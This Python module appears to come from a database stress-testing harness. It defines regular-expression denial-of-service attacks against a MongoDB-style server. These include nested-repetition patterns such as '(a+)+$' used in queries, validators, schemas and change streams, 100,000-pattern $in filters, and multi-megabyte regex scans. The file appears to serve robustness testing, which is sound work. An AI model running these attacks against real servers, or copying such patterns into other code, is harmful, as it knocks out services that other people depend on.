"""Attacks with regular expressions."""

from __future__ import annotations

from typing import Any

from bson import Regex

from attacks.attacker import Attack, Attacker, aggregating, repeated

BOMB = "(a+)+$"
VICTIM = "a" * 30 + "b"


def _insert_victims(attacker: Attacker) -> None:
    attacker.insert([{"_id": key, "text": VICTIM} for key in range(1000)])


def _long_text(length: int) -> dict[str, Any]:
    return {"$documents": [{"text": ("a" * 27 + " ") * (length // 28) + "b"}]}


def _in_of_patterns(attacker: Attacker) -> None:
    patterns = [Regex(f"{key}.*x{key}$") for key in range(100_000)]
    attacker.repeat({"find": "c", "filter": {"text": {"$in": patterns}}})


def _many_patterns(attacker: Attacker) -> None:
    number = 0
    while attacker.seconds_left > 0:
        number += 1
        alternatives = "|".join(f"{word}{number}[a-z]+" for word in range(2500))
        attacker.ask({"find": "c", "filter": {"text": {"$regex": f"({alternatives})"}}})


def _validator(attacker: Attacker) -> None:
    attacker.ask({"create": "validated", "validator": {"text": {"$not": {"$regex": BOMB}}}})
    attacker.repeat({"insert": "validated", "ordered": False}, documents=[{"text": VICTIM} for _ in range(1000)])


def _schema(attacker: Attacker) -> None:
    schema = {"properties": {"text": {"bsonType": "string", "pattern": BOMB}}}
    attacker.repeat({"find": "c", "filter": {"$jsonSchema": schema}})


def _stream(attacker: Attacker) -> None:
    stages = [{"$changeStream": {}}, {"$match": {"fullDocument.text": {"$regex": BOMB}}}]
    cursor = attacker.ask({"aggregate": "victims", "pipeline": stages, "cursor": {}})["cursor"]["id"]
    while attacker.seconds_left > 0:
        attacker.ask({"insert": "victims"}, documents=[{"text": VICTIM + "x" * n} for n in range(50)])
        attacker.ask({"getMore": cursor, "collection": "victims", "maxTimeMS": 100})


ATTACKS = (
    repeated(
        "a pattern of nested repetition, over 1,000 strings",
        {"find": "c", "filter": {"text": {"$regex": BOMB}}}, _insert_victims,
    ),
    repeated(
        "a pattern of nested repetition, over a text of 1 MB",
        aggregating(_long_text(1_000_000), {"$match": {"text": {"$regex": "(a+)+c"}}}),
    ),
    repeated(
        "a pattern that looks ahead to the end from everywhere",
        aggregating(_long_text(1_000_000), {"$match": {"text": {"$regex": "a(?=.*c)"}}}),
    ),
    repeated(
        "$regexFindAll of single letters of 2 MB",
        aggregating(_long_text(2_000_000), {"$project": {"n": {"$size": {
            "$regexFindAll": {"input": "$text", "regex": "(a)"}}}}}),
    ),
    Attack("$in of 100,000 regular expressions", _in_of_patterns, _insert_victims),
    Attack("new patterns of 30 KB, again and again", _many_patterns, _insert_victims),
    Attack("a validator with a pattern of nested repetition", _validator),
    Attack("$jsonSchema with a pattern of nested repetition", _schema, _insert_victims),
    Attack("a change stream that matches a pattern of nested repetition", _stream),
)  # fmt: skip
